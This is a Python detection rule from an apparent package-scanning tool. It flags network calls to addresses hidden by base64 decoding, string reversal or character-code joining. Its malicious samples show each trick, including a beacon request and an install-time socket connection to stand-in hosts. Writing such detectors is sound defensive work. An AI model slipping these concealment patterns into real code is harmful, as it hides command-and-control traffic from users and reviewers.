"""A request to an address that was hidden in the file: decoded, deciphered, reversed or put together."""

from __future__ import annotations

import re
from collections.abc import Iterator

from wheelmark.scan.facts import Act, Call, Facts
from wheelmark.scan.report import Severity, Tactic
from wheelmark.scan.rule import Evidence, Rule
from wheelmark.scan.rules._common import graded, told
from wheelmark.scan.samples import Sample, Samples
from wheelmark.scan.values import Origin, Taint, Value

_ADDRESS = re.compile(r"(?i)^\s*(?:(?:https?|wss?|ftp|tcp)://\S+|[a-z0-9-]{1,63}(\.[a-z0-9-]{1,63})+(:\d+)?(\s\d+)?$)")
_NEAR = re.compile(r"(?i)^\s*(?:\w+://)?(localhost|127\.|0\.0\.0\.0|\[?::1|10\.|192\.168\.)")
_ADDRESS_WORDS = frozenset({"url", "uri", "host", "address", "hostname"})


def check(facts: Facts) -> Iterator[Evidence]:
    for call in facts.calls_of(Act.SEND, Act.DOWNLOAD, Act.CONNECT):
        found = next(_hidden(call), None)
        if found is None:
            continue
        address, origins = found
        # What was computed in full stood in the file and was hidden there. What only partly came out of a decoder may
        # be a harmless address with an encoded parameter.
        most, least = (Severity.CRITICAL, Severity.CRITICAL) if address.known else (Severity.HIGH, Severity.LOW)
        severity = graded(call.context, automatic=most, entry=least, on_call=least)
        if severity is not None:
            text = f"{call.name} of {address.text[:120]}, out of {told(origins)}"
            yield Evidence.of_call(call, severity, text, origins=origins)


def _hidden(call: Call) -> Iterator[tuple[Value, list[Origin]]]:
    named = [value for name, value in call.keywords if name in _ADDRESS_WORDS]
    for value in (*call.arguments[:2], *named):
        text = value.text
        if not value.has(Taint.DECODED) or not _ADDRESS.match(text) or _NEAR.match(text):
            continue
        if not value.known and value.has(Taint.NETWORK):
            continue  # an address that a server gave, as every interface that has pages of results does
        yield value, sorted(origin for origin in value.origins if origin.taint is Taint.DECODED)


RULE = Rule(
    id="hidden-address",
    version=1,
    severity=Severity.CRITICAL,
    tactic=Tactic.COMMAND_AND_CONTROL,
    message="The address that the code talks to is kept out of sight: it comes out of a decoder or out of pieces.",
    reference="https://attack.mitre.org/techniques/T1027/013/",
    check=check,
    samples=Samples(
        malicious=(
            Sample.imported("""
                import base64

                import requests

                requests.get(base64.b64decode("aHR0cHM6Ly9jb2xsZWN0LmV4YW1wbGUuaW52YWxpZC9iZWFjb24=").decode())
            """),
            Sample.imported("""
                import urllib.request

                def news():
                    return urllib.request.urlopen("dilavni.elpmaxe.tcelloc//:sptth"[::-1]).read()


                news()
            """),
            Sample.installed("""
                import socket
                from setuptools import setup

                channel = socket.socket()
                channel.connect(("".join(map(chr, [99, 46, 101, 120, 97, 109, 112, 108, 101, 46, 105, 111])), 4443))
                setup(name="widget", version="1")
            """),
        ),
        benign=(
            Sample.imported("""
                import base64
                import json
                import urllib.request


                def pages(first):
                    following = first
                    while following:
                        answer = json.load(urllib.request.urlopen(following))
                        yield base64.b64decode(answer["content"])
                        following = answer.get("next")


                def login(name, password):
                    token = base64.b64encode(f"{name}:{password}".encode()).decode()
                    headers = {"Authorization": "Basic " + token}
                    request = urllib.request.Request("https://api.example.invalid/login", headers=headers)
                    return urllib.request.urlopen(request)
            """),
        ),
    ),
)
